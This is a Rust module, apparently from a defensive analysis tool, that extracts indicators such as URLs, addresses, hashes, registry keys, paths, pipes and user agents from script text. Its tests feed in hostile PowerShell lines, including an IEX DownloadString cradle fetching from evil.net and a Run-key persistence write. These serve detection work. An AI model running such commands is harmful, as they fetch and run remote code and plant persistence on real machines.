//! [`scan`]: one pass over a text.
//!
//! A text is divided into words (letters, digits, `_ . -`) and the characters between them. Each word and each character
//! between words is offered to the recognisers, which look at what follows; what one of them takes is not offered again.

use super::address::{Dotted, dotted, ipv4_left_out, ipv6, ipv6_left_out};
use super::host::{Host, is_bare_name, name_left_out};
use super::kind::{IndicatorKind, LeftOut};
use crate::limits;
use crate::ordered::OrderedSet;
use std::ops::Range;

/// A value in a text.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) struct Indicator {
    pub(crate) kind: IndicatorKind,
    pub(crate) value: String,
    pub(crate) left_out: Option<LeftOut>,
}

/// Returns the indicators of a text, and whether some were left out past [`limits::TEXT_INDICATORS`].
pub(super) fn scan(text: &str) -> (OrderedSet<Indicator>, bool) {
    let mut scanner = Scanner::new(text);
    scanner.run();
    (scanner.found, scanner.is_limited)
}

pub(super) struct Scanner<'a> {
    text: &'a str,
    at: usize,
    /// End of what a recogniser last took.
    taken: usize,
    /// The word before the current one, and the one before that.
    previous: [Range<usize>; 2],
    /// The last word that was a version.
    version: Range<usize>,
    found: OrderedSet<Indicator>,
    is_limited: bool,
}

impl<'a> Scanner<'a> {
    fn new(text: &'a str) -> Self {
        Self {
            text,
            at: 0,
            taken: 0,
            previous: [0..0, 0..0],
            version: 0..0,
            found: OrderedSet::new(),
            is_limited: false,
        }
    }

    fn run(&mut self) {
        while self.at < self.text.len() {
            let byte = self.byte(self.at);
            let end = if is_word_byte(byte) { self.word() } else { self.between(byte) };
            self.at = end.max(self.at + 1);
        }
    }

    /// Returns the byte at an offset; 0 outside of the text.
    pub(super) fn byte(&self, at: usize) -> u8 {
        self.text.as_bytes().get(at).copied().unwrap_or_default()
    }

    /// Returns the byte before an offset; 0 at the start of the text.
    pub(super) fn byte_before(&self, at: usize) -> u8 {
        at.checked_sub(1).map_or(0, |before| self.byte(before))
    }

    /// Returns a part of the text; empty if the range is none of characters.
    pub(super) fn part(&self, range: Range<usize>) -> &'a str {
        self.text.get(range).unwrap_or_default()
    }

    /// Returns the text from an offset on, which must be a character's first.
    pub(super) fn rest(&self, at: usize) -> &'a str {
        self.text.get(at..).unwrap_or_default()
    }

    pub(super) fn starts_with(&self, at: usize, prefix: &[u8]) -> bool {
        let found = self.text.as_bytes().get(at..at + prefix.len());
        found.is_some_and(|found| found.eq_ignore_ascii_case(prefix))
    }

    /// Offset of the first byte that no recogniser took yet.
    pub(super) fn taken(&self) -> usize {
        self.taken
    }

    /// Adds an indicator. One with a variable in it, and a very long one, is left out.
    pub(super) fn add(&mut self, kind: IndicatorKind, value: &str, left_out: Option<LeftOut>) {
        let left_out = left_out.or_else(|| match value.len() {
            limits::INDICATOR_BYTES.. => Some(LeftOut::TooLong),
            _ => (has_variable(value) || is_pattern(kind, value)).then_some(LeftOut::Incomplete),
        });
        if self.found.len() >= limits::TEXT_INDICATORS {
            self.is_limited = true;
            return;
        }
        let mut value = value.to_owned();
        if left_out == Some(LeftOut::TooLong) {
            value.truncate(crate::text::floor_char_boundary(&value, SHOWN_BYTES));
        }
        self.found.insert(Indicator { kind, value, left_out });
    }

    pub(super) fn add_host(&mut self, host: Host) {
        self.add(host.kind, &host.value, host.left_out);
    }

    /// Reads the word at the current offset, and what recognisers take after it. Returns the end.
    fn word(&mut self) -> usize {
        let start = self.at;
        let length = self.rest_bytes(start).iter().take_while(|byte| is_word_byte(**byte)).count();
        let word = start..start + length;
        let taken = match self.byte(word.end) {
            b':' => self
                .url(&word)
                .or_else(|| self.registry_key(&word))
                .or_else(|| self.drive_path(&word))
                .or_else(|| self.certificate(&word))
                .or_else(|| self.ipv6_at(&word)),
            b'\\' => self.registry_key(&word),
            b'@' => self.email(&word),
            _ => None,
        };
        let taken = taken
            .or_else(|| self.agent(&word))
            .or_else(|| self.pipe_stream(&word))
            .or_else(|| self.sub_key(&word));
        match taken {
            Some(end) => self.taken = end,
            None => self.values(&word),
        }
        let end = word.end;
        let [last, second] = &mut self.previous;
        *second = std::mem::replace(last, word);
        taken.unwrap_or(end)
    }

    fn rest_bytes(&self, at: usize) -> &'a [u8] {
        self.text.as_bytes().get(at..).unwrap_or_default()
    }

    /// Reads what begins with a character that is not of a word. Returns the end.
    fn between(&mut self, byte: u8) -> usize {
        let taken = match byte {
            b'\\' => self.unc_path(self.at),
            b'%' | b'$' => self.variable_path(self.at),
            b':' if self.byte(self.at + 1) == b':' => self.ipv6_at(&(self.at..self.at)),
            _ => None,
        };
        self.taken = taken.unwrap_or(self.taken);
        taken.unwrap_or(self.at + 1)
    }

    /// Reads an IPv6 address that begins with a word of hexadecimal digits, or with `::`.
    fn ipv6_at(&mut self, word: &Range<usize>) -> Option<usize> {
        let is_group = self.part(word.clone()).bytes().all(|byte| byte.is_ascii_hexdigit());
        let before = self.byte_before(word.start);
        if word.len() > 4
            || !is_group
            || matches!(before, b']' | b':' | b')' | b'$')
            || (word.is_empty() && is_word_byte(before))
        {
            return None;
        }
        let is_part = |byte: &&u8| byte.is_ascii_hexdigit() || matches!(byte, b':' | b'.');
        let rest = self.rest_bytes(word.start).iter().take(IPV6_BYTES + 1);
        let mut end = word.start + rest.take_while(is_part).count();
        while self.byte_before(end) == b'.' {
            end -= 1;
        }
        let address = ipv6(self.part(word.start..end)).filter(|_| !is_word_byte(self.byte(end)))?;
        self.add(IndicatorKind::Ipv6, &address.to_string(), ipv6_left_out(address));
        Some(end)
    }

    /// Reads `Cert:\LocalMachine\My\THUMBPRINT`.
    fn certificate(&mut self, word: &Range<usize>) -> Option<usize> {
        let separator = matches!(self.byte(word.end + 1), b'\\' | b'/');
        if !separator || !self.part(word.clone()).eq_ignore_ascii_case("cert") {
            return None;
        }
        let is_part = |byte: &&u8| is_word_byte(**byte) || matches!(byte, b'\\' | b'/' | b'$');
        let rest = self.rest_bytes(word.end + 1).iter().take(CERTIFICATE_BYTES);
        let end = word.end + 1 + rest.take_while(is_part).count();
        let name = self.part(word.end..end).rsplit(['\\', '/']).next().unwrap_or_default();
        if is_hash(name) == Some(IndicatorKind::Sha1) {
            self.add(IndicatorKind::Thumbprint, &name.to_uppercase(), None);
        }
        Some(end)
    }

    /// Adds the values that a word is by itself: addresses, versions, hashes, names of hosts.
    fn values(&mut self, word: &Range<usize>) {
        let mut has_letters = false;
        let mut start = word.start;
        for piece in self.part(word.clone()).split(['-', '_']) {
            self.piece(start..start + piece.len(), word, has_letters);
            has_letters |= piece.bytes().any(|byte| byte.is_ascii_alphabetic());
            start += piece.len() + 1;
        }
        let name = self.part(word.clone());
        let trimmed = name.trim_end_matches(['.', '-']);
        let (before, after) = (self.byte_before(word.start), self.byte(word.end));
        let is_code = matches!(before, b'$' | b']' | b')' | b'}' | b'@' | b'\\' | b'%')
            || (before == b'/' && self.byte_before(word.start - 1) != b'/')
            || (before == b':' && self.byte_before(word.start - 1) == b':')
            || after == b'('
            || (after == b':' && self.byte(word.end + 1) == b':');
        if !is_code && trimmed.contains('.') && is_bare_name(trimmed) {
            let name = trimmed.to_ascii_lowercase();
            self.add(IndicatorKind::Host, &name, name_left_out(&name));
        }
    }

    /// Adds the address, version or hash that a piece of a word is. `has_letters`: a piece of the word before it has.
    fn piece(&mut self, piece: Range<usize>, word: &Range<usize>, has_letters: bool) {
        let text = self.part(piece.clone()).trim_matches('.');
        if let Some(digits) = text.strip_prefix(['v', 'V']).filter(|text| dotted(text).is_some()) {
            self.add(IndicatorKind::Ipv4, digits, Some(LeftOut::Version));
            return;
        }
        match dotted(text) {
            Some(Dotted::Address(address)) => {
                let is_version = has_letters || self.is_version(word, address.octets());
                let reason =
                    if is_version { Some(LeftOut::Version) } else { ipv4_left_out(address) };
                if is_version {
                    self.version = word.clone();
                }
                self.add(IndicatorKind::Ipv4, &address.to_string(), reason);
            }
            Some(Dotted::Version) => {
                self.version = word.clone();
                self.add(IndicatorKind::Ipv4, text, Some(LeftOut::Version));
            }
            None => text.split('.').for_each(|part| self.hash(part, word)),
        }
    }

    fn hash(&mut self, text: &str, word: &Range<usize>) {
        let Some(kind) = is_hash(text) else { return };
        let (before, after) = (self.byte_before(word.start), self.byte(word.end));
        if matches!(before, b'+' | b'$') || matches!(after, b'+' | b'/' | b'=') {
            // A piece of base64, unless two signs of equality compare it.
            if after != b'=' || self.byte(word.end + 1) != b'=' || before == b'+' {
                return;
            }
        }
        // `netsh http add sslcert certhash=…`, `$certificate.GetCertHashString() -eq '…'`
        let ends = |word: &str| {
            let word = word.to_ascii_lowercase();
            THUMBPRINT_WORDS.iter().any(|name| word.ends_with(name))
        };
        if kind == IndicatorKind::Sha1 && self.is_after(word.start, ends) {
            self.add(IndicatorKind::Thumbprint, &text.to_uppercase(), None);
        } else {
            self.add(kind, &text.to_lowercase(), None);
        }
    }

    /// Whether four numbers that an address may have are a version: because of the words before them, or because no host
    /// has such an address.
    fn is_version(&self, word: &Range<usize>, octets: [u8; 4]) -> bool {
        let before = self.byte_before(word.start);
        // `Chrome/120.0.0.0`
        let is_product = before == b'/' && self.byte_before(word.start - 1).is_ascii_alphanumeric();
        // `4.0.0.0`, but not `20.0.0.0/8`
        let is_round = matches!(octets, [1..=9 | 11..=126 | 128..=223, 0, 0, 0])
            && self.byte(word.end) != b'/';
        let [last, _] = &self.previous;
        let continues = !self.version.is_empty() && *last == self.version;
        let is_list = continues && self.is_near(last.end, word.start);
        is_product || is_round || is_list || self.is_after(word.start, is_version_word)
    }

    /// Whether the word before an offset passes a test, or the one before that if it is an operator or the name of a
    /// method. Only punctuation is between them.
    fn is_after(&self, start: usize, is_right: impl Fn(&str) -> bool) -> bool {
        let [last, second] = &self.previous;
        let name = self.part(last.clone()).trim_start_matches('-');
        let near = self.is_near(last.end, start);
        if near && is_right(name) {
            return true;
        }
        let is_connecting = CONNECTING_WORDS.iter().any(|word| word.eq_ignore_ascii_case(name));
        near && is_connecting
            && self.is_near(second.end, last.start)
            && is_right(self.part(second.clone()))
    }

    /// Whether a few characters of one line and statement are between two words.
    fn is_near(&self, from: usize, to: usize) -> bool {
        let between = self.part(from..to);
        to >= from && to - from <= NEAR_BYTES && !between.contains(['\n', '\r', ';'])
    }
}

/// Bytes of a long value that are shown.
const SHOWN_BYTES: usize = 200;

/// Longest IPv6 address.
const IPV6_BYTES: usize = 45;

/// Bytes of the path of a certificate.
const CERTIFICATE_BYTES: usize = 128;

/// Names of a certificate's thumbprint.
const THUMBPRINT_WORDS: [&str; 3] = ["thumbprint", "certhash", "certhashstring"];

/// Bytes between a word and the value that it names.
const NEAR_BYTES: usize = 24;

/// Words between the name of a value and the value.
const CONNECTING_WORDS: [&str; 16] = [
    "parse", "new", "eq", "ne", "ge", "gt", "le", "lt", "is", "like", "match", "in", "contains",
    "value", "of", "ceq",
];

fn is_version_word(word: &str) -> bool {
    let word = word.to_ascii_lowercase();
    let word = word.trim_end_matches('s');
    word.ends_with("version")
        || word.rsplit('.').next().is_some_and(|last| {
            matches!(last, "ver" | "v" | "build" | "release" | "revision" | "rev")
        })
}

pub(super) fn is_word_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.' | b'-') || byte >= 0x80
}

/// Returns the kind of hash that a text is by its length. A hash has digits and letters.
fn is_hash(text: &str) -> Option<IndicatorKind> {
    let kind = match text.len() {
        32 => IndicatorKind::Md5,
        40 => IndicatorKind::Sha1,
        64 => IndicatorKind::Sha256,
        _ => return None,
    };
    let has = |test: fn(&u8) -> bool| text.as_bytes().iter().any(test);
    let is_hex = text.bytes().all(|byte| byte.is_ascii_hexdigit());
    (is_hex && has(u8::is_ascii_digit) && has(u8::is_ascii_alphabetic)).then_some(kind)
}

/// Whether a variable or a place of a format is in a value: `$name`, `$(…)`, `${…}`, `{0}`.
fn has_variable(value: &str) -> bool {
    let is_variable = |pair: &[u8]| match pair {
        [b'$', next] => next.is_ascii_alphabetic() || matches!(next, b'(' | b'{' | b'_'),
        _ => false,
    };
    value.as_bytes().windows(2).any(is_variable) || value.split('{').skip(1).any(is_place)
}

/// Whether a path or key is a regular expression: `HKU\S-1-5-21-[\d\-]+$`, `C:\.*\a`.
fn is_pattern(kind: IndicatorKind, value: &str) -> bool {
    // A share may end with `$`.
    let is_key = kind == IndicatorKind::RegistryKey;
    (is_key || kind == IndicatorKind::Path)
        && ((is_key && value.ends_with('$'))
            || ["[\\", "[^", ".*", ".+", "(?"].iter().any(|own| value.contains(own)))
}

/// Whether a place of a format, such as `{0}` or `{1:x2}`, follows its bracket. A GUID is none.
fn is_place(after: &str) -> bool {
    let Some((inside, _)) = after.split_once('}') else { return false };
    let digits = inside.split([':', ',']).next().unwrap_or_default();
    (1..=2).contains(&digits.len()) && digits.bytes().all(|byte| byte.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Formats the indicators of a text: `kind value`, and for one left out `kind value -reason`.
    fn shown(text: &str) -> Vec<String> {
        let (found, _) = scan(text);
        let line = |own: &Indicator| {
            let reason = own.left_out.map(|reason| format!(" -{}", reason.as_str()));
            format!("{} {}{}", own.kind.as_str(), own.value, reason.unwrap_or_default())
        };
        found.iter().map(line).collect()
    }

    #[track_caller]
    fn check(cases: &[(&str, &[&str])]) {
        for (text, right) in cases {
            assert_eq!(shown(text), *right, "{text}");
        }
    }

    #[test]
    fn urls_and_hosts() {
        check(&[
            (
                "IEX (New-Object Net.WebClient).DownloadString('HTTP://Evil.Net:8080/A.ps1?x=1#y')",
                &["url http://evil.net:8080/A.ps1?x=1#y", "host evil.net"],
            ),
            (
                "iwr https://user:pw@evil.net/a -o b",
                &["url https://user:pw@evil.net/a", "host evil.net"],
            ),
            ("(iwr http://8.8.4.4/a).Content", &["url http://8.8.4.4/a", "ipv4 8.8.4.4"]),
            ("\"http://[2a00::1]:81/a\"", &["url http://[2a00::1]:81/a", "ipv6 2a00::1"]),
            ("\"http://$server/a\"", &["url http://$server/a -incomplete"]),
            (
                "\"http://evil.net/$file\"",
                &["url http://evil.net/$file -incomplete", "host evil.net"],
            ),
            ("'http://{0}/a' -f $x", &["url http://{0}/a -incomplete"]),
            ("http://127.0.0.1:8000/", &["url http://127.0.0.1:8000/ -loopback"]),
            ("http://localhost/a", &["url http://localhost/a -loopback"]),
            ("http://www.example.com/a", &["url http://www.example.com/a -documentation"]),
            ("http://192.0.2.4/", &["url http://192.0.2.4/ -documentation"]),
            (
                "xmlns='http://schemas.microsoft.com/win/2004/08/events/event' \"http://www.w3.org/2001/XMLSchema\"",
                &[
                    "url http://schemas.microsoft.com/win/2004/08/events/event -schema",
                    "url http://www.w3.org/2001/XMLSchema -schema",
                ],
            ),
            (
                "ldap://dc01.corp.net/DC=corp",
                &["url ldap://dc01.corp.net/DC=corp", "host dc01.corp.net"],
            ),
            (
                "'http://a.net/x@http://b.net/y'",
                &["url http://a.net/x", "url http://b.net/y", "host a.net", "host b.net"],
            ),
            ("ping dc01.corp.local; nslookup evil.ru.", &["host dc01.corp.local", "host evil.ru"]),
            (
                "$x.com = $y.net.com; [a.com]::b; c.com(1); [System.Net.Dns]; System.IO.Path",
                &["host a.com"],
            ),
            ("http:// and ://x and http:///a and unknown://a.net/x", &["host a.net"]),
            ("a.ps1 b.exe c.py Microsoft.PowerShell.Core System.Net Newtonsoft.Json", &[]),
        ]);
    }

    #[test]
    fn addresses_and_versions() {
        check(&[
            ("ping 10.1.2.3", &["ipv4 10.1.2.3"]),
            ("$c = '10.1.2.3:4444','10.1.2.4'", &["ipv4 10.1.2.3", "ipv4 10.1.2.4"]),
            (
                "10.0.0.1-10.0.0.9 and 10.0.0.0/8.",
                &["ipv4 10.0.0.0", "ipv4 10.0.0.1", "ipv4 10.0.0.9"],
            ),
            ("$server = '10.1.1.1'", &["ipv4 10.1.1.1"]),
            ("$version = '10.1.1.1'", &["ipv4 10.1.1.1 -version"]),
            ("Version=4.0.0.0, Culture=neutral", &["ipv4 4.0.0.0 -version"]),
            ("ModuleVersion = '2.2.5.1'", &["ipv4 2.2.5.1 -version"]),
            ("#requires -version 5.1.2.3", &["ipv4 5.1.2.3 -version"]),
            ("[version]::Parse('6.1.7.1')", &["ipv4 6.1.7.1 -version"]),
            ("[version]'10.0.17763.1'", &["ipv4 10.0.17763.1 -version"]),
            ("if ($v.Version -ge '6.1.1.1')", &["ipv4 6.1.1.1 -version"]),
            (
                "-RequiredVersion 1.2.3.4, 1.2.3.5",
                &["ipv4 1.2.3.4 -version", "ipv4 1.2.3.5 -version"],
            ),
            (
                "Chrome/91.0.44.12 v1.2.3.4 1.3.6.1.5.5.7.3.1 lib-1.2.3.4",
                &[
                    "ipv4 1.2.3.4 -version",
                    "ipv4 1.3.6.1.5.5.7.3.1 -version",
                    "ipv4 91.0.44.12 -version",
                ],
            ),
            (
                "127.0.0.1 0.0.0.0 255.255.255.0 198.51.100.9",
                &[
                    "ipv4 0.0.0.0 -reserved",
                    "ipv4 127.0.0.1 -loopback",
                    "ipv4 198.51.100.9 -documentation",
                    "ipv4 255.255.255.0 -reserved",
                ],
            ),
            ("1.2.3 12.5 2024.01.02 1.2.3.4a x1.2.3.4", &[]),
            (
                "ping 2A00:1450::200E; [::1]:80; '::ffff:8.8.8.8' 2001:db8::1",
                &[
                    "ipv6 2001:db8::1 -documentation",
                    "ipv6 2a00:1450::200e",
                    "ipv6 ::1 -loopback",
                    "ipv6 ::ffff:8.8.8.8",
                ],
            ),
            ("[Convert]::FromBase64String 12:30:45 00:11:22:33:44:55 [a]::b c::d $e::1", &[]),
        ]);
    }

    #[test]
    fn mail_and_hashes() {
        let (md5, sha1) =
            ("d41d8cd98f00b204e9800998ecf8427e", "DA39A3EE5E6B4B0D3255BFEF95601890AFD80709");
        let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        check(&[
            ("mail -To 'A.b+c@Evil.Net'", &["email A.b+c@evil.net"]),
            (
                "mailto:a@b.co, x@example.com; u@host @params $a@b.net @\"\n",
                &["email a@b.co", "email x@example.com -documentation"],
            ),
            (md5, &[&format!("md5 {md5}")]),
            (&format!("SHA1={sha1}"), &[&format!("sha1 {}", sha1.to_lowercase())]),
            (&format!("{sha256}.exe"), &[&format!("sha256 {sha256}")]),
            (
                &format!("if ($h -eq '{sha256}' -or $h=='{md5}')"),
                &[&format!("md5 {md5}"), &format!("sha256 {sha256}")],
            ),
            (
                &format!("-CertificateThumbprint '{}'", sha1.to_lowercase()),
                &[&format!("thumbprint {sha1}")],
            ),
            (&format!("$_.Thumbprint -eq \"{sha1}\""), &[&format!("thumbprint {sha1}")]),
            (&format!("cert:\\LocalMachine\\My\\{sha1}"), &[&format!("thumbprint {sha1}")]),
            (&format!("{md5}0 0x{md5} a{md5} {md5}+ {md5}/ {md5}= {}", "a".repeat(32)), &[]),
            ("{6f1c2d3e-0000-4000-8000-000000000001}", &[]),
        ]);
    }

    #[test]
    fn places() {
        check(&[
            (
                "Set-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Run' x",
                &["registry-key HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Run"],
            ),
            (
                "reg add HKEY_CURRENT_USER\\Software\\A B\\C /v x",
                &["registry-key HKCU\\Software\\A B\\C"],
            ),
            (
                "'Registry::HKLM\\Soft\\A B' hklm:soft\\x",
                &["registry-key HKLM\\Soft\\A B", "registry-key HKLM\\soft\\x"],
            ),
            (
                "\"HKCU:\\Software\\$name\" HKLM:\\ HKCU: HKLM",
                &["registry-key HKCU\\Software\\$name -incomplete"],
            ),
            (
                "C:\\Program Files (x86)\\A b\\c.exe -x C:/temp/d.txt",
                &["path C:\\Program Files (x86)\\A b\\c.exe", "path C:\\temp\\d.txt"],
            ),
            ("'c:\\Users\\a b\\c d.txt'", &["path C:\\Users\\a b\\c d.txt"]),
            (
                "\"C:\\a.exe /c x\" 'C:\\b.dll,Start' {C:\\c\\d}",
                &["path C:\\a.exe", "path C:\\b.dll", "path C:\\c\\d"],
            ),
            ("\"C:\\\\Users\\\\x\"", &["path C:\\Users\\x"]),
            (
                "\"$env:TEMP\\a.ps1\" %appdata%\\b.js ${env:ProgramFiles(x86)}\\c",
                &["path %APPDATA%\\b.js", "path %PROGRAMFILES(X86)%\\c", "path %TEMP%\\a.ps1"],
            ),
            (
                "\\\\fs01\\share$\\a b\\c.exe \\\\10.9.8.7\\c$",
                &[
                    "host fs01",
                    "ipv4 10.9.8.7",
                    "path \\\\10.9.8.7\\c$",
                    "path \\\\fs01\\share$\\a b\\c.exe",
                ],
            ),
            (
                "file:///C:/a/b file://fs01/s/x",
                &["host fs01", "path C:\\a\\b", "path \\\\fs01\\s\\x"],
            ),
            (
                "\\\\.\\pipe\\evil \\\\dc01\\pipe\\spoolss \\\\.\\root\\cimv2 \\\\?\\C:\\x\\y",
                &[
                    "host dc01",
                    "path C:\\x\\y",
                    "named-pipe \\\\.\\pipe\\evil",
                    "named-pipe \\\\dc01\\pipe\\spoolss",
                ],
            ),
            (
                "New-Object IO.Pipes.NamedPipeServerStream('a-1', 'InOut')",
                &["named-pipe \\\\.\\pipe\\a-1"],
            ),
            (
                "[IO.Pipes.NamedPipeClientStream]::new(\"dc01\", \"b\")",
                &["host dc01", "named-pipe \\\\dc01\\pipe\\b"],
            ),
            ("-match '\\\\d\\w' '[a-z]:\\\\d+' \\\\s+ C:\\ D: C:", &[]),
            ("'\\\\Windows\\\\System32'", &[]),
        ]);
    }

    #[test]
    fn places_of_offensive_scripts() {
        check(&[
            ("& \"$($Env:WINDIR)\\System32\\cmd.exe\"", &["path %WINDIR%\\System32\\cmd.exe"]),
            ("$(${env:TEMP})\\a.ps1", &["path %TEMP%\\a.ps1"]),
            ("f($env:TEMP)\\a", &[]),
            ("${env:ProgramFiles(x86)}\\a\\b.exe", &["path %PROGRAMFILES(X86)%\\a\\b.exe"]),
            (
                "[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey(\n    \"SAM\\SAM\\Domains\",",
                &["registry-key HKLM\\SAM\\SAM\\Domains"],
            ),
            (
                "[Win32.Registry]::CurrentUser.CreateSubKey('Software\\Evil', $true)",
                &["registry-key HKCU\\Software\\Evil"],
            ),
            ("$users.OpenSubKey('a\\b'); $x.LocalMachine.Count('a\\b')", &[]),
            ("'HKU:\\S-1-5-21-[\\d\\-]+$'", &["registry-key HKU\\S-1-5-21-[\\d\\-]+$ -incomplete"]),
            ("\\\\FS03\\C$", &["host fs03", "path \\\\FS03\\C$"]),
            ("TGS_a@corp.local.kirbi", &[]),
            ("mail -Attachments alice@corp.net.csv", &[]),
        ]);
        let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
        let upper = format!("thumbprint {}", sha1.to_uppercase());
        for text in [
            format!("netsh http add sslcert certhash={sha1}"),
            format!("if ($c.GetCertHashString() -eq '{sha1}') {{}}"),
            format!("New-PSSession -CertificateThumbprint {sha1}"),
        ] {
            assert_eq!(shown(&text), [upper.as_str()], "{text}");
        }
    }

    #[test]
    fn user_agents() {
        let mozilla =
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0";
        check(&[
            (
                &format!("$w.Headers.Add('User-Agent', '{mozilla}')"),
                &[&format!("user-agent {mozilla}")],
            ),
            (&format!("$ua=\"{mozilla}\""), &[&format!("user-agent {mozilla}")]),
            (
                "iwr x -UserAgent 'a b/1'; $h['User-Agent'] = \"c\"",
                &["user-agent a b/1", "user-agent c"],
            ),
            ("iwr x -UserAgent curl/7.1 -x", &["user-agent curl/7.1"]),
            ("User-Agent: d e\r\nHost: x", &["user-agent d e"]),
            ("-UserAgent $ua; [PSUserAgent]::Chrome; $x.UserAgent; User-Agent", &[]),
        ]);
    }

    #[test]
    fn limits_are_counted() {
        let long = format!("http://evil.net/{}", "a".repeat(limits::INDICATOR_BYTES));
        let right = format!("url {} -tooLong", &long[..SHOWN_BYTES]);
        assert_eq!(shown(&long), [right, "host evil.net".to_owned()]);
        let many =
            |count: usize| (0..count).map(|index| format!("a{index}.net ")).collect::<String>();
        assert!(!scan(&many(limits::TEXT_INDICATORS)).1);
        assert!(scan(&many(limits::TEXT_INDICATORS + 1)).1);
    }

    /// What a reader sees in a text of words with blanks between: each word by itself.
    fn naive(words: &[&str]) -> Vec<String> {
        let mut all: Vec<String> = words.iter().flat_map(|word| shown(word)).collect();
        all.sort();
        all.dedup();
        all
    }

    proptest! {
        #[test]
        fn lines_are_independent(words in prop::collection::vec(prop::sample::select(PIECES), 0..30)) {
            let mut found = shown(&words.join(" \n"));
            found.sort();
            prop_assert_eq!(found, naive(&words));
        }

        #[test]
        fn any_text_is_scanned(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..40)) {
            for own in scan(&pieces.concat()).0.iter() {
                prop_assert!(!own.value.is_empty() && !own.value.contains('\n'));
            }
        }

        #[test]
        fn any_characters_are_scanned(text in "[ -~\n\r\té“’–😀]{0,200}") {
            scan(&text);
        }
    }

    const PIECES: &[&str] = &[
        "http://evil.net/a",
        "https://",
        "evil.net",
        "10.1.2.3",
        "4.0.0.0",
        "C:\\a\\b.exe",
        "\\\\fs\\a",
        "\\\\",
        "\\",
        ":",
        "HKLM:\\a",
        "%TEMP%\\a",
        "$env:TEMP\\a",
        "a@b.net",
        "@",
        "d41d8cd98f00b204e9800998ecf8427e",
        "2a00::1",
        "::",
        "Mozilla/5.0 (a)",
        "\\\\.\\pipe\\x",
        "(",
        ")",
        "'",
        "é",
        "😀",
        "version",
        "-eq",
        "{0}",
        "file:///",
        "x",
    ];
}
